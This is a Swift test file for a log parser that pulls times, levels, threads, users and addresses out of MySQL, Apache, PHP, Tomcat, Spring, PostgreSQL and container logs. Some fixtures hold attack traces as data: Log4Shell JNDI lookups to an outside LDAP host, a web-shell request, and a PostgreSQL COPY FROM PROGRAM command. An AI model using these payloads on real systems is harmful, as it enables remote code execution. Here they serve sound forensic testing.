import Evidence
import Testing

@testable import LogParse

@Suite struct ApplicationLogTests {
  @Test func threadAndLevelOfMySQL() throws {
    let dump = try EventDump(
      "2026-11-25T05:20:28.123456Z 8 [Note] [MY-010914] [Server] Access denied\n2026-11-25T05:20:29.1Z 9 [x] y\n",
      path: "mysqld.log")
    #expect(dump.format == "app.log")
    #expect(dump.events.map { $0.text("thread") } == ["8", nil])
    #expect(dump.events.map { $0.text("level") } == ["Note", nil])
    #expect(dump.events.map { $0.text("text") } == ["[MY-010914] [Server] Access denied", "9 [x] y"])
  }

  @Test func piecesOfAContainersLine() throws {
    let text = """
      2026-11-25T05:20:26.123456789Z stdout P one,
      2026-11-25T05:20:26.123456790Z stdout F  two
      2026-11-25T05:20:27.123456789Z stdout P three
      2026-11-25T05:20:27.123456790Z stderr F [four] five
      2026-11-25T05:20:28.123456790Z stdout X six

      """
    let dump = try EventDump(text, path: "0.log")
    #expect(dump.format == "app.log")
    #expect(dump.events.map { $0.text("text") } == ["one, two", "three", "[four] five", "stdout X six"])
    #expect(dump.events.map { $0.text("stream") } == ["stdout", "stdout", "stderr", nil])
    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
  }

  @Test func whoAskedApache() throws {
    func client(_ line: String) throws -> [Value?] {
      let event = try EventDump(line + "\n", path: "error.log").events.first
      return [event?["remote_address"], event?["remote_port"]]
    }
    #expect(
      try client("[Wed Nov 25 05:20:12 2026] [error] [client 203.0.113.9] File does not exist: /var/www/x")
        == [.text("203.0.113.9"), nil])
    #expect(
      try client("[Wed Nov 25 05:20:12 2026] [error] [client 2001:db8::1:4444] File does not exist: /var/www/x")
        == [.text("2001:db8::1:4444"), nil])
    #expect(
      try client("[Wed Nov 25 05:20:13.123456 2026] [core:error] [pid 7] [client 2001:db8::1:4444] AH00036: x")
        == [.text("2001:db8::1"), .integer(4444)])
    #expect(
      try client("[Wed Nov 25 05:20:13.123456 2026] [core:error] [pid 7] [client 203.0.113.9:4444] AH00036: x")
        == [.text("203.0.113.9"), .integer(4444)])
  }
  /// What a web server in a container prints is a request; what else it prints is its log.
  @Test func requestsThatContainersPrint() throws {
    let line = #"203.0.113.9 - - [25/Nov/2026:05:20:12 +0000] "GET /cmd.jsp?c=id HTTP/1.1" 200 1 "-" "curl""#
    let text = """
      2026-11-25T05:20:12.123456789Z stdout F \(line)
      2026-11-25T05:20:13.123456789Z stderr F 2026/11/25 05:20:12 [error] 7#7: *1 failed, client: 203.0.113.9

      """
    let dump = try EventDump(text, path: "0.log")
    #expect(dump.format == "app.log" && HostileInputTests.isWhole(dump, text.utf8.count))
    #expect(dump.events.map(\.dataType) == ["web:access:request", "app:log:entry"])
    #expect(dump.events.first?.text("remote_address") == "203.0.113.9" && dump.events.first?.text("stream") == "stdout")
    #expect(dump.events.first?.text("uri") == "/cmd.jsp?c=id")

    let quoted = line.split(separator: "\"", omittingEmptySubsequences: false).joined(separator: "\\\"")
    let json = """
      {"log":"\(quoted)\\n","stream":"stdout","time":"2026-11-25T05:20:12.123456789Z"}
      {"log":"one, ","stream":"stdout","time":"2026-11-25T05:20:13.123456789Z"}
      {"log":"two\\n","stream":"stdout","time":"2026-11-25T05:20:13.123456790Z"}
      {"log":"three","stream":"stderr","time":"2026-11-25T05:20:14Z"}

      """
    let docker = try EventDump(json, path: "0123-json.log")
    #expect(docker.format == "app.container" && HostileInputTests.isWhole(docker, json.utf8.count))
    #expect(docker.events.map(\.dataType) == ["web:access:request", "app:log:entry", "app:log:entry"])
    #expect(docker.events.first?.text("remote_address") == "203.0.113.9")
    #expect(docker.events.map { $0.text("text") } == [nil, "one, two", "three"])
    // An application's own log in JSON is another one.
    #expect(EventDump.recognize(Array(#"{"log":"x","time":"2026-11-25T05:20:14Z"}"#.utf8), path: "a.log") == nil)
  }

  @Test func logsOfPHP() throws {
    let text = """
      [25-Nov-2026 05:20:12 UTC] PHP Fatal error:  Uncaught Error in /var/www/a.php:3
      Stack trace:
      [25-Nov-2026 14:20:13 Asia/Seoul] PHP Warning:  system(): x in /var/www/uploads/sh.php on line 1
      [25-Nov-2026 05:20:12] NOTICE: fpm is running, pid 1

      """
    let dump = try EventDump(text, path: "php.log", zone: .stated(540))
    #expect(dump.format == "app.log")
    #expect(dump.events.map { $0.text("level") } == ["Fatal error", "Warning", "NOTICE"])
    #expect(
      dump.events.map { $0.time?.description.prefix(19) } == [
        "2026-11-25T05:20:12", "2026-11-25T05:20:13", "2026-11-24T20:20:12",
      ])
    #expect(dump.events.first?.text("text")?.hasSuffix("Stack trace:") == true)
    #expect(try EventDump("[25-Nov-2026 05:20:12 a b] c\n", path: "x.txt").format == nil)
  }

  @Test func logsOfAKoreanTomcat() throws {
    let old = "11월 25, 2026 5:20:14 오후 org.apache.catalina.core.StandardService startInternal\n정보: Starting\n"
    let dump = try EventDump(old, path: "catalina.out", zone: .utc)
    #expect(dump.format == "app.log" && dump.events.count == 1)
    #expect(dump.events.first?.time?.description == "2026-11-25T17:20:14Z")
    let new = """
      25-Nov-2026 05:20:12.123 정보 [main] org.apache.catalina.startup.Catalina.start Server startup
      25-Nov-2026 05:20:13.123 심각 [http-nio-8080-exec-1] org.x.Y.z fail

      """
    #expect(try EventDump(new, path: "catalina.out").events.map { $0.text("level") } == ["INFO", "SEVERE"])
    #expect(try EventDump("13월 25, 2026 5:20:14 오후 x\n", path: "catalina.out").format == nil)
  }

  /// The time at the start, wherever the level stands and whatever language the JDK speaks.
  @Test(
    arguments: [
      ("INFO  2026-11-25 05:20:26,245 [main] a.B - m", "INFO", "a.B - m"),
      ("[INFO ] 2026-11-25 05:20:26.245 [main] a.B - m", "INFO", "a.B - m"),
      ("WARN: 2026-11-25 05:20:26.245 m", "WARN", "m"),
      ("[2026-11-25 05:20:26.245 +0000] [7] [INFO] m", "INFO", "m"),
      ("[2026-11-25T05:20:26,245][INFO ][o.e.Node ] [n] m", "INFO", "[n] m"),
      ("2026-11-25 14:20:26.245 KST [7] LOG:  m", nil, "LOG:  m"),
      ("2026-11-25 14:20:26.245 +09 [7] LOG:  m", nil, "LOG:  m"),
      ("25-11월-2026 05:20:26.245 정보 [main] a.B m", "INFO", "a.B m"),
      ("25-11月-2026 05:20:26.245 情報 [main] a.B m", "INFO", "a.B m"),
      ("25-Nov.-2026 05:20:26.245 SCHWERWIEGEND [main] a.B m", "SEVERE", "a.B m"),
      ("25-nov.-2026 05:20:26.245 INFOS [main] a.B m", "INFO", "a.B m"),
      ("(2026-11-25  5:20:26:245000): [be[example.com]] [x] (0x0040): m", nil, "[be[example.com]] [x] (0x0040): m"),
      (
        "time=\"2026-11-25T05:20:26.245Z\" level=info msg=\"m\"", "info",
        "time=\"2026-11-25T05:20:26.245Z\" level=info msg=\"m\""
      ),
      (
        "level=warn ts=2026-11-25T05:20:26.245Z caller=a.go:1 msg=m", "warn",
        "level=warn ts=2026-11-25T05:20:26.245Z caller=a.go:1 msg=m"
      ),
    ] as [(String, String?, String)])
  func timesAndLevels(_ line: String, _ level: String?, _ text: String) throws {
    let dump = try EventDump(line + "\n" + line + "\n", path: "app.log")
    #expect(dump.format == "app.log" && dump.events.count == 2, "\(line)")
    #expect(dump.events.first?.text("level") == level && dump.events.first?.text("text") == text, "\(line)")
    #expect(dump.events.first?.time?.nanoseconds == 1_795_584_026_245_000_000, "\(line)")
  }

  @Test func whatOnlyLooksLikeATime() throws {
    for line in [
      "INFO  starting at 2026-11-25 05:20:26", "(2026-11-25) a", "(2026-11-25  5:20): [x]", "time=now level=info",
      "level=info msg=none", "[2026-11-25 05:20:26 XYZQ] m", "25-Foo-2026 05:20:26.245 INFO m",
      "25-11x-2026 05:20:26 m",
    ] { #expect(EventDump.recognize(Array((line + "\n").utf8), path: "x.log")?.name != "app.log", "\(line)") }
    let level = try EventDump("2026-11-25 05:20:26,245 WEST m\n2026-11-25 05:20:27 - a\n", path: "a.log")
    #expect(level.events.map { $0.text("text") } == ["m", "a"])
  }

  @Test(
    arguments: [
      ("fail2ban.actions        [77]: NOTICE  [sshd] Ban 203.0.113.66", "banned", nil, nil),
      (
        "8 [Note] [MY-010926] [Server] Access denied for user 'a'b'@'203.0.113.66' (using password: YES)",
        "login_failed", "a'b", nil
      ),
      ("8 Connect\tops@203.0.113.66 on app using TCP/IP", "connected", "ops", nil),
      ("UTC [77] LOG:  connection received: host=203.0.113.66 port=50122", "connected", nil, 50122),
      ("UTC:203.0.113.66(50122):ops@app:[77]:LOG:  statement: select 1", nil, "ops", 50122),
    ] as [(String, String?, String?, Int64?)])
  func whoCameToAService(_ text: String, _ action: String?, _ user: String?, _ port: Int64?) throws {
    let event = try #require(try EventDump("2026-11-25 05:20:26.245 \(text)\n", path: "a.log").events.first)
    #expect(event.text("action") == action && event.text("user") == user && event.integer("remote_port") == port)
    #expect(event.text("remote_address") == "203.0.113.66" && event.entities.contains(Entity(.address, "203.0.113.66")))
  }

  @Test(
    arguments: [
      "fail2ban.actions [77]: NOTICE  [sshd] Ban nobody", "Access denied for user ops", "a Connect\tops",
      "connection received: host=[local]", "fail2ban is fine",
    ])
  func nobodyCameToAService(_ text: String) throws {
    let event = try #require(try EventDump("2026-11-25 05:20:26.245 INFO \(text)\n", path: "a.log").events.first)
    #expect(event["remote_address"] == nil && event["action"] == nil && event["user"] == nil)
  }

  @Test(
    arguments: [
      ("2026-11-25  5:20:26 8 [Warning] Access denied for user 'ops'@'203.0.113.66' (using password: YES)", "Warning"),
      ("261125  5:20:26 [Note] Access denied for user 'ops'@'203.0.113.66' (using password: YES)", nil),
      ("261125 05:20:26\t    8 Connect\tops@203.0.113.66 on app", nil),
      (
        "# Time: 2026-11-25T05:20:26.000000Z\n# User@Host: ops[ops] @  [203.0.113.66]  Id:     8\n"
          + "# Query_time: 10.000123  Lock_time: 0\nSET timestamp=1795584026;\nSELECT SLEEP(10);", nil
      ),
      ("# Time: 261125  5:20:26\n# User@Host: ops[ops] @ web-1 [203.0.113.66]\nSELECT 1;", nil),
    ] as [(String, String?)])
  func timesOfMySQL(_ text: String, _ level: String?) throws {
    let dump = try EventDump(text + "\n" + text + "\n", path: "mysql.log")
    #expect(dump.format == "app.log" && dump.events.count == 2, "\(text)")
    let event = try #require(dump.events.first)
    #expect(event.time?.nanoseconds == 1_795_584_026_000_000_000 && event.text("user") == "ops", "\(text)")
    #expect(event.text("remote_address") == "203.0.113.66", "\(text)")
    if let level { #expect(event.text("level") == level) }
  }

  @Test(arguments: [
    "# Time: none\n# Time: 1\n", "261325  5:20:26 a\n", "123456 a\n", "2026-11-25  a:20:26 b\n", "261125  5:20:26x\n",
  ])
  func whatIsNoTimeOfMySQL(_ text: String) {
    #expect(EventDump.recognize(Array(text.utf8), path: "x.log")?.name != "app.log")
  }

  /// log4j's own pattern has no date, and goes into catalina.out below lines that have one.
  @Test func timesOfDayBelowADate() throws {
    let text = """
      25-Nov-2026 23:59:01.123 INFO [main] org.apache.catalina.startup.Catalina.start Server startup
      23:59:58.500 [http-nio-8080-exec-1] ERROR com.acme.Login - user ${jndi:ldap://198.51.100.7:1389/a}
      java.lang.IllegalStateException: x
      \tat com.acme.Login.doPost(Login.java:12)
      00:00:02,250 INFO  [org.jboss.as] (MSC service thread 1-1) started
      12:00:00 is noon, said the text
      12:00:00.000 is noon as well

      """
    let dump = try EventDump(text, path: "catalina.out")
    #expect(dump.format == "app.log" && HostileInputTests.isWhole(dump, text.utf8.count))
    #expect(dump.events.count == 3)
    #expect(
      dump.events.map { $0.time?.description } == [
        "2026-11-25T23:59:01.123Z", "2026-11-25T23:59:58.500Z", "2026-11-26T00:00:02.250Z",
      ])
    #expect(dump.events.map { $0.text("level") } == ["INFO", "ERROR", "INFO"])
    #expect(dump.events.map { $0.text("thread") }.prefix(2) == ["main", "http-nio-8080-exec-1"])
    #expect(dump.events.map { $0.text("day") } == [nil, "inferred", "inferred"])
    #expect(dump.events.last?.text("text")?.hasSuffix("noon as well") == true)

    // Where no date comes at all there is no time, and the entries are told apart all the same.
    let alone = "04:10:01.123 [main] INFO a.B - x\n\tat y\n04:10:02.123 [main] WARN a.B - z\n"
    let bare = try EventDump(alone, path: "x.log")
    #expect(bare.format == "app.log" && bare.events.count == 2 && bare.events.allSatisfy { $0.time == nil })
  }

  /// Whatever a program prints without a time is kept, in pieces, and so is an attack in it.
  @Test func longEntries() throws {
    let line = "\tat com.acme.Login.doPost(Login.java:123)\n"
    let trace = String(repeating: line, count: 5000)
    let text = "2026-11-25 05:20:26,245 ERROR [main] x\n\(trace)${jndi:ldap://198.51.100.7/a}\n\(trace)"
    let dump = try EventDump(text, path: "app.log")
    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
    #expect(dump.events.count > 5 && dump.events.allSatisfy { ($0.text("text")?.utf8.count ?? 0) <= 1 << 16 })
    #expect(dump.events.contains { $0.text("text")?.contains("${jndi:ldap://198.51.100.7/a}") == true })
    #expect(dump.events.dropFirst().allSatisfy { $0["continued"] == .flag(true) && $0.time == dump.events.first?.time })
    #expect(dump.events.reduce(0) { $0 + ($1.integer("lines").map(Int.init) ?? 1) } == 10_002)

    let parts = (0..<3000).map {
      "{\"log\":\"\($0) \(String(repeating: "x", count: 60))\",\"stream\":\"stdout\",\"time\":\"2026-11-25T05:20:12Z\"}\n"
    }
    let last = "{\"log\":\"${jndi:x}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-25T05:20:12Z\"}\n"
    let docker = try EventDump(parts.joined() + last, path: "0123-json.log")
    #expect(docker.events.count > 1 && docker.events.last?.text("text")?.hasSuffix("${jndi:x}") == true)
    // Fluent Bit leaves the line's end away and keeps the mark of the runtime.
    let marked = String(
      repeating: "{\"time\":\"2026-11-25T05:20:12Z\",\"stream\":\"stdout\",\"_p\":\"F\",\"log\":\"x\"}\n", count: 3)
    #expect(try EventDump(marked, path: "x.log").events.map { $0.text("text") } == ["x", "x", "x"])
  }

  /// CloudWatch Logs writes its own time in front when it exports.
  @Test func exportedMessages() throws {
    let text = """
      2026-11-25T05:20:12.000Z 25-Nov-2026 05:20:12.345 WARNING [exec-1] com.acme.Login.doPost x
      2026-11-25T05:20:13.000Z 2026-11-25 05:20:13,345 ERROR [exec-2] com.acme.Login y

      """
    let dump = try EventDump(text, path: "000000")
    #expect(dump.format == "app.log" && dump.events.map { $0.text("level") } == ["WARNING", "ERROR"])
    #expect(dump.events.map { $0.text("thread") } == ["exec-1", "exec-2"])
    #expect(dump.events.first?.time == Timestamp(iso8601: "2026-11-25T05:20:12.000Z"))
    let syslog =
      "2026-11-25T05:20:12.000Z Nov 25 05:20:11 web-1 sshd[77]: Accepted password for root from 203.0.113.9 port 5 ssh2\n"
    let login = try EventDump(syslog, path: "000000")
    #expect(login.format == "linux.syslog" && login.events.first?.text("host") == "web-1")
    #expect(login.events.first?.text("action") == "login_accepted")
    #expect(login.events.first?.time == Timestamp(iso8601: "2026-11-25T05:20:12.000Z"))
  }

  @Test(arguments: [
    ("25-nov-2026", "INFORMACIÓN", "INFO"), ("25-nov.-2026", "ADVERTENCIA", "WARNING"),
    ("25-nov-2026", "INFORMAZIONI", "INFO"), ("25-nov-2026", "AVVERTENZA", "WARNING"),
    ("25-nov-2026", "INFORMAÇÕES", "INFO"), ("25-nov-2026", "ADVERTÊNCIA", "WARNING"),
    ("25-ноя-2026", "INFO", "INFO"), ("25-нояб.-2026", "WARNING", "WARNING"), ("25-lis-2026", "INFO", "INFO"),
    ("25-十一月-2026", "严重", "SEVERE"), ("25-11月-2026", "資訊", "INFO"),
  ])
  func tomcatsInOtherLanguages(_ date: String, _ word: String, _ level: String) throws {
    let dump = try EventDump("\(date) 05:20:26.245 \(word) [main] a.B.c text\n", path: "catalina.out")
    #expect(dump.format == "app.log" && dump.events.first?.text("level") == level)
    #expect(dump.events.first?.text("thread") == "main" && dump.events.first?.text("text") == "a.B.c text")
    #expect(dump.events.first?.time?.description == "2026-11-25T05:20:26.245Z")
  }

  @Test func threadsOfSpring() throws {
    let thread = "nio-8080-exec-1"
    for marks in [
      "[\(thread)]", "[demo] [\(thread)]", "[demo] [\(thread)] [4bf92f3577b34da6-00f067aa0ba902b7]",
      "[\(thread)] [4bf92f3577b34da6-00f067aa0ba902b7]", "[  \(thread)] [                                  ]",
    ] {
      let line = "2026-11-25T05:20:26.245Z  INFO 1234 --- \(marks) c.e.DemoApplication : started\n"
      let event = try #require(try EventDump(line, path: "app.log").events.first)
      #expect(event.text("thread") == thread && event.integer("pid") == 1234, "\(marks)")
      #expect(event.text("text")?.hasPrefix("1234 --- [") == true)
    }
    let other = try EventDump("2026-11-25T05:20:26.245Z  INFO 1234 items --- [x]\n", path: "app.log").events.first
    #expect(other?.text("thread") == nil && other?.integer("pid") == nil)
  }

  @Test func sessionsOfPostgreSQL() throws {
    let front = "2026-11-25 05:20:26.245 UTC [77]"
    let event = try #require(
      try EventDump("\(front) ops@app LOG:  statement: COPY x FROM PROGRAM 'id'\n", path: "pg.log").events.first)
    #expect(event.text("user") == "ops" && event.entities == [Entity(.user, "ops")])
    for text in ["[unknown]@[unknown] LOG:  x", "mail to ops@app LOG: x", "ops@app logged in"] {
      #expect(try EventDump("\(front) \(text)\n", path: "pg.log").events.first?.text("user") == nil, "\(text)")
    }
  }

  @Test func whoAskedApacheFromAfar() throws {
    let line =
      "[Wed Nov 25 05:20:26.245678 2026] [authz_core:error] [pid 9] [remote 203.0.113.66:4444] AH01630: denied\n"
    let event = try EventDump(line, path: "error.log").events.first
    #expect(event?.text("remote_address") == "203.0.113.66" && event?.integer("remote_port") == 4444)
  }

  @Test func datesWithPointsInBrackets() throws {
    let line = "[2026.11.25 05:20:26][2][b123] [container1-1] [WEB-1001] started\n"
    let dump = try EventDump(line, path: "JeusServer.log", format: ApplicationLogFormat())
    #expect(dump.events.first?.time?.description == "2026-11-25T05:20:26Z")
    #expect(dump.events.first?.text("text")?.hasSuffix("[WEB-1001] started") == true)
    for odd in ["[2026.11.25]", "[2026.11.25 05:20]", "[1.2.3 x]", "[12345]"] {
      let dump = try EventDump("\(odd) text\n", path: "x.log", format: ApplicationLogFormat())
      #expect(dump.events.first?.time == nil, "\(odd)")
    }
  }

  @Test(
    arguments: [
      ("2026-11-25T05:20:26Z E! [outputs.x] denied", "ERROR", "[outputs.x] denied"),
      ("2026/11/25 05:20:26 I! started", "INFO", "started"),
      ("2026-11-25 05:20:26,245 - util.py[WARNING]: Failed", "WARNING", "util.py[WARNING]: Failed"),
      ("2026-11-25 05:20:26,245 - cwlogs.push - INFO - 1234 - x", "INFO", "cwlogs.push - INFO - 1234 - x"),
      ("2026-11-25 05:20:26,245 - util.py[7]: x", nil, "util.py[7]: x"),
      ("2026-11-25 05:20:26,245 - a - b - x", nil, "a - b - x"), ("2026/11/25 05:20:26 O! wow", nil, "O! wow"),
      ("2026-11-25 05:20:26,245 told - INFO is all", nil, "told - INFO is all"),
    ] as [(String, String?, String)])
  func levelsBehindANameOrOfOneLetter(_ line: String, _ level: String?, _ text: String) throws {
    let event = try EventDump(line + "\n", path: "x.log", format: ApplicationLogFormat()).events.first
    #expect(event?.text("level") == level && event?.text("text") == text)
  }
}
